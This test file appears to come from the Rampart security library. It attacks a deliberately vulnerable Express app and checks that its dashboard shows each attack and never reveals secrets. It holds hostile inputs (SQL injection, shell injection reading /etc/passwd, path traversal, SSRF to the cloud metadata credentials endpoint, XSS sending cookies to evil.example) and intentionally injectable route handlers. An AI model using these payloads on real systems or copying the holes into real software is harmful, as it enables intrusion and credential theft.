/**
 * The dashboard in a real browser (chromium through playwright-core), watching a real app under
 * attack: Express with rampart() (rate limit, errors, events), runtime protection on its sinks,
 * @rampart/auth on its login, and dashboardHandler mounted at /rampart/. A scripted campaign sends
 * SQL injection, shell injection, path traversal, SSRF, reflected XSS, a password brute force, a
 * flood and a crashing request from distinct loopback addresses; the page must show each within
 * 2 s without a reload, filter them, drill into one, and never show a secret value.
 */
import assert from 'node:assert/strict';
import { exec, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import Database from 'better-sqlite3';
import express from 'express';
import type { Page } from 'playwright-core';
import { createAuth, expressAuth } from '@rampart/auth';
import { createEventBus, MemorySink, rampart } from '@rampart/guard';
import { installProtection } from '@rampart/guard/protect';
import { dashboardHandler, memorySource } from '@rampart/dashboard';
import { chromiumOrSkip, launchBrowser, screenshot, watchedPage, type Browser, type PageProblems } from '../../../test/helpers/browser.ts';

const TOKEN = 'browser-test-token-8f2c41d09b7e';
const PASSWORD = 'correct-horse-battery-staple-41';
/** Values that must never reach the page, sent inside the attacks. */
const AWS_KEY = 'AKIAQX7M2ZP4KD9WLT3B';
const JWT = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJyb290In0.k3vN0dS1gnaturePart8xQ2mZ';
/** The hard-coded secrets of examples/vulnerable-shop/config/default.json, which the scan report lists. */
const SHOP_SECRETS = ['Tr0ub4dor&3-shop-prod', 'sk_live_51Nq8ZxKp3vR7tLm2QwE9yHcJd4FgB6sA0uVnXoPiT1kMzYbW5eRr8DlGhCj'];
const REPO = new URL('../../../', import.meta.url).pathname;
const GUESSES = ['hunter2-guess-one', 'hunter2-guess-two', 'hunter2-guess-three', 'hunter2-guess-four', 'hunter2-guess-five', 'hunter2-guess-six', 'hunter2-guess-seven', 'hunter2-guess-eight'];

/** A deliberately vulnerable app, protected by Rampart, with the dashboard mounted. */
async function startShop(dir: string): Promise<{ base: string; server: Server; sink: MemorySink; close(): Promise<void> }> {
  installProtection({ mode: 'block', log: false });
  const sink = new MemorySink(1000);
  const bus = createEventBus({ sinks: [sink], logger: false });
  const guard = rampart({ events: bus, logger: false, rootCheck: false, rateLimit: { limit: 25, windowMs: 60_000 } });
  const users = new Map<string, { id: string; passwordHash: string }>();
  const auth = createAuth({ findUser: async (name) => users.get(name), onEvent: (e) => bus.emit(e) });
  users.set('alice', { id: 'u-alice', passwordHash: await auth.passwords.hash(PASSWORD) });
  const db = new Database(join(dir, 'shop.db'));
  db.exec("CREATE TABLE users (name TEXT, email TEXT); INSERT INTO users VALUES ('alice', 'alice@example.com')");
  mkdirSync(join(dir, 'public'));
  // The latest scan the page shows: the built CLI on the example shop, as a user runs it (npm test builds first).
  const report = join(dir, 'report.json');
  const scan = spawnSync(process.execPath, [join(REPO, 'packages/cli/dist/bin.js'), 'scan', join(REPO, 'examples/vulnerable-shop'), '-f', 'json', '-o', report, '--fail-on', 'none'], { encoding: 'utf8' });
  assert.equal(scan.status, 0, scan.stderr);
  writeFileSync(join(dir, 'public', 'terms.txt'), 'terms');

  const app = express();
  // Mounted before the guard: it sends its own strict headers and needs its token, and its live
  // updates must not count against the app's rate limit.
  app.use(dashboardHandler({ source: memorySource(sink), token: TOKEN, report, basePath: '/rampart/' }));
  app.use(guard);
  const a = expressAuth(auth);
  app.post('/login', a.login);
  app.get('/users', (req, res) => void res.json(db.prepare(`SELECT name FROM users WHERE name = '${String(req.query.name)}'`).all()));
  app.get('/ping', (req, res, next) => void exec(`echo ${String(req.query.host)}`, (err, out) => (err ? next(err) : res.type('text').send(out))));
  app.get('/file', (req, res, next) => void readFile(join(dir, 'public', String(req.query.name)), 'utf8').then((t) => res.type('text').send(t), next));
  app.get('/preview', (req, res, next) => void fetch(String(req.query.url)).then(async (r) => res.type('text').send(await r.text()), next));
  app.get('/hello', (req, res) => void res.type('html').send(`<p>Hello ${String(req.query.name)}</p>`));
  app.get('/products', (_req, res) => void res.json([{ id: 1, name: 'lamp' }]));
  app.get('/crash', () => {
    throw new Error(`database down: postgres://shop:${PASSWORD}@db.internal/shop`);
  });
  app.use(guard.errorHandler);
  const server = app.listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    base,
    server,
    sink,
    async close() {
      server.closeAllConnections();
      await new Promise((r) => server.close(r));
      await guard.close();
      await bus.close();
      db.close();
    },
  };
}

/** One request from a chosen loopback address, so each attacker has its own IP. */
function send(base: string, from: string, path: string, init: { method?: string; body?: unknown; headers?: Record<string, string> } = {}): Promise<number> {
  const body = init.body === undefined ? undefined : JSON.stringify(init.body);
  return new Promise((resolve, reject) => {
    const req = request(
      `${base}${path}`,
      { method: init.method ?? 'GET', localAddress: from, headers: { ...(body ? { 'content-type': 'application/json' } : {}), ...init.headers } },
      (res) => {
        res.resume();
        res.on('end', () => resolve(res.statusCode ?? 0));
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}

const rows = (page: Page) => page.locator('#events tr');

/** Waits until a row with all these texts is on the page; returns how long it took in ms. */
async function seen(page: Page, texts: string[], timeout = 2000): Promise<number> {
  const start = Date.now();
  let row = rows(page);
  for (const t of texts) row = row.filter({ hasText: t });
  await row.first().waitFor({ state: 'visible', timeout });
  return Date.now() - start;
}

describe('dashboard in chromium, watching an app under attack', { timeout: 180_000 }, () => {
  let browser: Browser | undefined;
  let shop: Awaited<ReturnType<typeof startShop>>;
  let page: Page;
  let problems: PageProblems;
  let loads = 0;
  const latency: Record<string, number> = {};

  before(async () => {
    shop = await startShop(mkdtempSync(join(tmpdir(), 'rampart-dash-browser-')));
  });
  after(async () => {
    await browser?.close();
    await shop.close();
  });

  test('the page loads with no console error, no uncaught error and no CSP violation', async (t) => {
    if (!chromiumOrSkip(t)) return;
    browser = await launchBrowser();
    ({ page, problems } = await watchedPage(browser.context));
    page.setDefaultTimeout(15_000);
    page.on('load', () => loads++);
    // Opened without the trailing slash: redirected to /rampart/, the token fragment kept.
    const res = await page.goto(`${shop.base}/rampart#token=${TOKEN}`);
    assert.equal(res?.status(), 200);
    assert.equal(new URL(res!.url()).pathname, '/rampart/');
    assert.match(res?.headers()['content-security-policy'] ?? '', /script-src 'self'/);
    await page.locator('#status', { hasText: 'live' }).waitFor({ timeout: 10_000 });
    // The token left the address bar once read.
    assert.equal(new URL(page.url()).hash, '');
    assert.equal(await page.locator('#login').isHidden(), true);
    assert.equal(await page.locator('#chart .uplot').count(), 1, 'the chart is drawn');
    await screenshot(page, 'dashboard-loaded');
    assert.deepEqual(problems.all(), []);
  });

  test('the latest scan shows findings and a score per practice, secrets by place only', async (t) => {
    if (!browser) return t.skip('the browser did not start');
    await page.locator('#report-status', { hasText: /\d+ findings in .*vulnerable-shop/ }).waitFor();
    const practices = await page.locator('#practices tr').allTextContents();
    assert.equal(practices.length, 11);
    const scores = await page.locator('#practices tr td:nth-child(3)').allTextContents();
    assert.ok(scores.some((s) => Number(s) < 100), `some practice lost points: ${scores.join(' ')}`);
    const secrets = await page.locator('#secrets li').allTextContents();
    assert.ok(secrets.some((s) => s.includes('config/default.json:11')), secrets.join('\n'));
    const text = await page.locator('body').innerText();
    for (const secret of SHOP_SECRETS) assert.ok(!text.includes(secret), 'a secret value from the scan is on the page');
    assert.deepEqual(problems.all(), []);
  });

  test('a scripted campaign shows up on the page within 2 s each, without a reload', async (t) => {
    if (!browser) return t.skip('the browser did not start');
    const longTail = 'x'.repeat(400);
    const campaign: { name: string; from: string; go: () => Promise<number>; expect: number; row: string[] }[] = [
      { name: 'sql-injection', from: '127.0.0.2', expect: 403, row: ['sql-injection', '127.0.0.2'],
        go: () => send(shop.base, '127.0.0.2', `/users?name=${encodeURIComponent(`alice' OR '1'='1' -- ${AWS_KEY} ${longTail}`)}`, { headers: { 'x-request-id': 'campaign-sqli-1' } }) },
      { name: 'shell-injection', from: '127.0.0.3', expect: 403, row: ['shell-injection', '127.0.0.3'],
        go: () => send(shop.base, '127.0.0.3', `/ping?host=${encodeURIComponent('example.org; cat /etc/passwd')}`) },
      { name: 'path-traversal', from: '127.0.0.3', expect: 403, row: ['path-traversal', '127.0.0.3'],
        go: () => send(shop.base, '127.0.0.3', `/file?name=${encodeURIComponent('../../../../etc/passwd')}`) },
      { name: 'ssrf', from: '127.0.0.2', expect: 403, row: ['ssrf', '127.0.0.2'],
        go: () => send(shop.base, '127.0.0.2', `/preview?url=${encodeURIComponent('http://169.254.169.254/latest/meta-data/iam/security-credentials/')}`) },
      { name: 'reflected-xss', from: '127.0.0.2', expect: 403, row: ['reflected-xss', '127.0.0.2'],
        go: () => send(shop.base, '127.0.0.2', `/hello?name=${encodeURIComponent(`<script>fetch('//evil.example/?c='+document.cookie+'${JWT}')</script>`)}`, { headers: { authorization: `Bearer ${JWT}` } }) },
      { name: 'crash', from: '127.0.0.6', expect: 500, row: ['unhandled-error', '127.0.0.6'], go: () => send(shop.base, '127.0.0.6', '/crash') },
    ];
    for (const step of campaign) {
      assert.equal(await step.go(), step.expect, `${step.name} answered`);
      latency[step.name] = await seen(page, step.row);
    }
    // Brute force: wrong passwords until the (user, IP) pair is locked (5 free failures, then 1 s doubling).
    const statuses: number[] = [];
    for (const guess of GUESSES) {
      statuses.push(await send(shop.base, '127.0.0.4', '/login', { method: 'POST', body: { username: 'alice', password: guess } }));
      if (statuses.at(-1) === 429) break;
    }
    assert.deepEqual(statuses.slice(0, 5), [401, 401, 401, 401, 401]);
    assert.equal(statuses.at(-1), 429, `locked at last: ${statuses.join(' ')}`);
    const failures = statuses.filter((s) => s === 401).length;
    latency['login-throttled'] = await seen(page, ['login-throttled', '127.0.0.4']);
    // A flood from one address: 25 allowed per minute, the rest limited; the guard reports the first refusal per client and window.
    const flood = await Promise.all(Array.from({ length: 30 }, () => send(shop.base, '127.0.0.5', '/products')));
    assert.equal(flood.filter((s) => s === 429).length, 5);
    latency['rate-limit'] = await seen(page, ['rate-limit', '127.0.0.5']);

    await page.locator('#auth', { hasText: `${failures} / 1` }).waitFor({ timeout: 2000 });
    assert.equal(await page.locator('#attacks').textContent(), '5');
    // Every rule is listed (up to ten), so the counts add up to the total.
    const byRule = await page.locator('#attacks-by-rule li').allTextContents();
    assert.equal(byRule.reduce((sum, line) => sum + Number(/: (\d+)$/.exec(line)?.[1] ?? NaN), 0), 5, byRule.join(', '));
    assert.deepEqual(await page.locator('#attacks-by-ip li').allTextContents(), ['127.0.0.2: 3', '127.0.0.3: 2']);
    assert.ok((await page.locator('#attacks-by-route li').allTextContents()).includes('/users: 1'));
    assert.equal(await page.locator('#ratelimit').textContent(), '1');
    assert.equal(await page.locator('#errors').textContent(), '1');
    assert.equal(loads, 1, 'the page was never reloaded');
    t.diagnostic(`ms from the answer to the row on the page: ${JSON.stringify(latency)}`);
    await screenshot(page, 'dashboard-campaign');
    assert.deepEqual(problems.all(), []);
  });

  test('filters by kind, rule, route and IP change the rows and the counters', async (t) => {
    if (!browser) return t.skip('the browser did not start');
    const form = page.locator('#filters');
    const apply = async (values: Record<string, string>) => {
      await form.locator('select[name=kind]').selectOption(values.kind ?? '');
      for (const name of ['practice', 'rule', 'action', 'route', 'ip']) await form.locator(`input[name=${name}]`).fill(values[name] ?? '');
      await form.locator('button[type=submit]').click();
    };
    const cells = (column: number) => page.locator(`#events tr td:nth-child(${column})`).allTextContents();
    const settle = async (predicate: () => Promise<boolean>) => {
      for (let i = 0; i < 40 && !(await predicate()); i++) await page.waitForTimeout(50);
      assert.ok(await predicate());
    };

    await apply({ kind: 'auth' });
    await settle(async () => (await cells(2)).length > 0 && (await cells(2)).every((k) => k === 'auth'));
    assert.deepEqual([...new Set(await cells(3))].sort(), ['login-failure', 'login-throttled']);
    assert.equal(await page.locator('#attacks').textContent(), '0');
    await screenshot(page, 'dashboard-filter-kind-auth');

    await apply({ ip: '127.0.0.3' });
    await settle(async () => (await cells(6)).every((ip) => ip === '127.0.0.3') && (await cells(6)).length === 2);
    assert.deepEqual((await cells(3)).sort(), ['path-traversal', 'shell-injection']);
    await page.locator('#attacks', { hasText: '2' }).waitFor({ timeout: 2000 });

    // Each wait checks the new rows' content: the table of the filter before can have as many rows.
    await apply({ rule: 'sql-injection', route: '/users' });
    await settle(async () => (await cells(3)).length === 1 && (await cells(3))[0] === 'sql-injection');
    assert.deepEqual(await cells(3), ['sql-injection']);

    await apply({ kind: 'rate-limit', practice: '3' });
    await settle(async () => (await cells(2)).length === 1 && (await cells(2))[0] === 'rate-limit');
    assert.deepEqual(await cells(6), ['127.0.0.5']);
    assert.equal(await page.locator('#ratelimit').textContent(), '1');
    assert.equal(await page.locator('#attacks').textContent(), '0');
    await screenshot(page, 'dashboard-filter-rate-limit');

    await apply({});
    await settle(async () => (await cells(2)).length === shop.sink.size);
    assert.deepEqual(problems.all(), []);
  });

  test('drill-down into one attack shows payload (truncated), sink, app stack frame and request id', async (t) => {
    if (!browser) return t.skip('the browser did not start');
    await rows(page).filter({ hasText: 'sql-injection' }).first().click();
    const detail = page.locator('#detail');
    await detail.waitFor({ state: 'visible', timeout: 2000 });
    const field = async (name: string) => {
      const dt = detail.locator('dt', { hasText: new RegExp(`^${name}$`) });
      return (await dt.locator('xpath=following-sibling::dd[1]').textContent()) ?? '';
    };
    const payload = await field('payload');
    assert.ok(payload.startsWith("alice' OR '1'='1' --"), payload);
    assert.ok(payload.length <= 201, `payload cut to 200 characters, was ${payload.length}`);
    assert.match(await field('sink'), /better-sqlite3/);
    assert.match(await field('app frame'), /dashboard-browser\.test\.ts:\d+/);
    assert.equal(await field('request id'), 'campaign-sqli-1');
    // The AWS key id inside the payload was redacted before the event was stored.
    assert.ok(payload.includes('[REDACTED]') && !payload.includes(AWS_KEY), payload);
    assert.match(await field('route'), /GET \/users/);
    await screenshot(page, 'dashboard-drill-down');
    assert.deepEqual(problems.all(), []);
  });

  test('the page never shows a secret value', async (t) => {
    if (!browser) return t.skip('the browser did not start');
    // Open every event once, so each drill-down's text is checked too.
    const ids = await rows(page).evaluateAll((trs) => trs.map((tr) => tr.getAttribute('data-id')));
    let shown = '';
    for (const id of ids) {
      await page.locator(`#events tr[data-id="${id}"]`).click();
      await page.locator('#detail-fields dt', { hasText: /^id$/ }).locator('xpath=following-sibling::dd[1]', { hasText: id! }).waitFor({ timeout: 2000 });
      shown += await page.locator('#detail').innerText();
    }
    shown += await page.locator('body').innerText();
    for (const secret of [TOKEN, PASSWORD, AWS_KEY, JWT, ...GUESSES, ...SHOP_SECRETS]) assert.ok(!shown.includes(secret), `the page shows ${secret.slice(0, 6)}…`);
    assert.deepEqual(problems.all(), []);
  });
});
